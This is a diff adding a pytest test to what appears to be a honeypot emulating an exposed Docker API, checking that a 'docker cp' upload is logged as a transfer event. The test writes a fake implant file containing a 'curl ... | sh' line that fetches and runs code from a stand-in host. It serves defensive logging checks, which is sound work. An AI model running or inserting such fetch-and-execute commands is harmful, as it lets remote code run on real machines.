@@ -141,3 +141,18 @@ def test_nmap_names_docker(target: LocalEmulator) -> None:
     require_tools("nmap", packages="nmap")
     line = nmap_service(target.host, target.port(2375))
     assert "Docker 24.0.7" in line, line
+
+
+def test_docker_cp_into_a_container_is_a_transfer(target: LocalEmulator,
+                                                  tmp_path: Path) -> None:
+    payload = tmp_path / "implant.sh"
+    payload.write_text("curl -s http://203.0.113.9/x | sh\n")
+    name = _docker(target, tmp_path, "ps", "--format", "{{.Names}}").stdout.split()[0]
+    out = _docker(target, tmp_path, "cp", str(payload), f"{name}:/tmp/")
+    assert out.returncode == 0, out.stderr
+    (transfer,) = target.events("transfer", wait=3)
+    assert transfer.fields["direction"] == "upload"
+    assert transfer.fields["files"] == "implant.sh"
+    assert transfer.fields["file_bytes"] == str(len(payload.read_bytes()))
+    assert transfer.fields["container"] == name
+    assert transfer.src_ip == target.source
